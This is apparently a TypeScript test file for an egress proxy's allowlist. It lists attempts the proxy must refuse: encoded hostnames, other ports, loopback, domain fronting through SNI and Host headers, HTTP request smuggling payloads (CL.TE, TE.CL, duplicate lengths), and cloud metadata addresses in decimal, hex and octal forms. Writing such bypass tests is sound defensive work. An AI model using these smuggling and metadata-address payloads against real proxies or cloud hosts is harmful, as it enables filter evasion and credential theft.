import { type Attempt, attempts } from '../attempt.ts'

const get = (line: string, more = '') =>
  `$T via $PROXY_HOST 8888 'GET ${line} HTTP/1.1\\r\\nHost: allowed.test\\r\\n${more}\\r\\n'`

/** Denied names, asked of the gate in every shape. */
const asked = attempts(
  'through the gate',
  'mark',
  { meets: 'allowlist' },
  {
    'a denied name': 'curl -sm 4 -x $PROXY http://denied.test/$MARK',
    'a denied name, tunnelled': 'curl -sm 4 -p -x $PROXY http://denied.test/$MARK',
    'upper case': 'curl -sm 4 -x $PROXY http://DENIED.TEST/$MARK',
    'a trailing dot': 'curl -sm 4 -x $PROXY http://denied.test./$MARK',
    'userinfo that looks allowed': {
      tries: `$T via $PROXY_HOST 8888 'GET http://allowed.test@denied.test/MARK HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n'`,
      meets: 'gate',
    },
    'an address': 'curl -sm 4 -x $PROXY http://$DENIED/$MARK',
    'an address, tunnelled': 'curl -sm 4 -p -x $PROXY http://$DENIED/$MARK',
    'POST with a body': 'curl -sm 4 -x $PROXY -d x=$MARK http://denied.test/',
    'a name below an allowed one': 'curl -sm 4 -x $PROXY http://front.allowed.test/$MARK',
    'a name that ends like an allowed one': 'curl -sm 4 -x $PROXY http://notallowed.test/$MARK',
    'HTTP/1.0 without a Host': `$T via $PROXY_HOST 8888 'GET http://denied.test/MARK HTTP/1.0\\r\\n\\r\\n'`,
    'absolute form over a kept connection': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n|PAUSE|GET http://denied.test/MARK HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'; curl -sm 4 -x $PROXY http://denied.test/$MARK`,
  },
)

const otherPorts = attempts(
  'CONNECT to other ports',
  'mark',
  { meets: 'allowlist' },
  Object.fromEntries(
    [22, 25, 53, 853, 2375, 5432, 6379, 8080, 9418].map(port => [
      `a denied host's port ${port}`,
      `curl -sm 4 -p -x $PROXY http://denied.test:${port}/$MARK`,
    ]),
  ),
)

const loopback = attempts(
  'CONNECT to other ports',
  'effect',
  { meets: 'gate' },
  Object.fromEntries(
    ['127.0.0.1', 'localhost', '127.1', '0x7f000001', '2130706433', '0.0.0.0'].map(name => [
      `${name}:8888, the gate's own port`,
      `curl -fsm 4 --noproxy '' -o /dev/null -x $PROXY http://${name}:8888/health`,
    ]),
  ),
)

/** Another name inside than outside: the host behind the front. */
const fronting = attempts(
  'domain fronting',
  'mark',
  { meets: 'gate' },
  {
    'another SNI in an allowed tunnel': '$T hello $PROXY_HOST 8888 allowed.test:443 MARK.denied.test',
    'another SNI, on another port': '$T hello $PROXY_HOST 8888 allowed.test:8080 MARK.denied.test',
    'SNI of an allowed zone': '$T hello $PROXY_HOST 8888 allowed.test:443 MARK.allowed.test',
    'another Host than the URL': 'curl -sm 4 -x $PROXY -H "Host: $MARK.denied.test" http://allowed.test/',
    'another Host, in capitals': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHOST: MARK.denied.test\\r\\nConnection: close\\r\\n\\r\\n'`,
    'two Hosts, the second denied': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: MARK.denied.test\\r\\nConnection: close\\r\\n\\r\\n'`,
    'two Hosts, the first denied': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: MARK.denied.test\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'`,
    'X-Forwarded-Host': 'curl -sm 4 -x $PROXY -H "X-Forwarded-Host: $MARK.denied.test" http://allowed.test/',
    Forwarded: 'curl -sm 4 -x $PROXY -H "Forwarded: host=$MARK.denied.test" http://allowed.test/',
  },
)

/** One request for the gate, two for the host behind it. */
const smuggling = attempts(
  'HTTP smuggling',
  'mark',
  { meets: 'gate' },
  {
    'CL.TE': get('http://allowed.test/', 'Content-Length: 60\\r\\nTransfer-Encoding: chunked\\r\\n').replace(
      /'$/,
      `0\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'`,
    ),
    'TE.CL': get('http://allowed.test/', 'Transfer-Encoding: chunked\\r\\nContent-Length: 3\\r\\n').replace(
      /'$/,
      `1\\r\\nx\\r\\n0\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'`,
    ),
    'a white space before the colon': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding : chunked\\r\\nX: MARK\\r\\nContent-Length: 0\\r\\n\\r\\n'`,
    'two lengths': `$T via $PROXY_HOST 8888 'POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\nGET /MARK HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'`,
    'a folded header': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: y\\r\\n\\x00MARK: z\\r\\n\\r\\n'`,
    'a request in the line break': `$T via $PROXY_HOST 8888 'GET http://allowed.test/\\rGET\\x20/MARK HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'`,
    'a pipelined request to a denied host': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET http://denied.test/MARK HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'`,
    'a protocol upgrade': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade\\r\\nUpgrade: MARK\\r\\n\\r\\n'`,
    'a hop-by-hop header kept': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close, X-Hidden\\r\\nX-Hidden: MARK\\r\\n\\r\\n'`,
    'proxy authorisation passed on': `$T via $PROXY_HOST 8888 'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nProxy-Authorization: MARK\\r\\nConnection: close\\r\\n\\r\\n'`,
  },
)

const metadataUrls: Readonly<Record<string, string>> = {
  'by address': '169.254.169.254',
  'as a decimal number': '2852039166',
  'in hex': '0xa9fea9fe',
  'in octal': '0251.0376.0251.0376',
  'IPv4-mapped': '[::ffff:169.254.169.254]',
}

/** The address at which clouds hand out credentials: here a test host's. */
const metadata: Attempt[] = [
  ...attempts(
    'metadata addresses',
    'mark',
    { meets: 'no metadata network' },
    {
      'direct, TCP': '$T tcp 169.254.169.254 80',
      'direct, UDP': '$T udp 169.254.169.254 53',
      'direct, ICMP': '$T icmp 169.254.169.254',
      'direct, as a decimal number': `curl -sm 3 --noproxy '*' http://2852039166/$MARK`,
      'direct, IPv4-mapped': '$T tcp ::ffff:169.254.169.254 80',
    },
  ),
  ...attempts(
    'metadata addresses',
    'mark',
    { meets: 'gate' },
    Object.fromEntries(
      Object.entries(metadataUrls).flatMap(([how, host]) => [
        [`through the gate, ${how}`, `curl -gsm 4 -x $PROXY "http://${host}/$MARK"`],
        [`through a tunnel, ${how}`, `curl -gsm 4 -p -x $PROXY "http://${host}/$MARK"`],
      ]),
    ),
  ),
  ...attempts(
    'metadata addresses',
    'mark',
    { meets: 'gate' },
    {
      'an allowed name that leads there': 'curl -sm 4 -x $PROXY http://metadata.test/$MARK',
      'an allowed name that leads there, tunnelled': 'curl -sm 4 -p -x $PROXY http://metadata.test/$MARK',
    },
  ),
  ...attempts(
    'metadata addresses',
    'mark',
    { meets: 'address guard' },
    {
      'an allowed name at a private address': 'curl -sm 4 -x $PROXY http://inner.test/$MARK',
      'an allowed name at a private address, tunnelled': 'curl -sm 4 -p -x $PROXY http://inner.test/$MARK',
    },
  ),
]

/** What only the gate can refuse. */
export const gate = [...asked, ...otherPorts, ...loopback, ...fronting, ...smuggling, ...metadata]
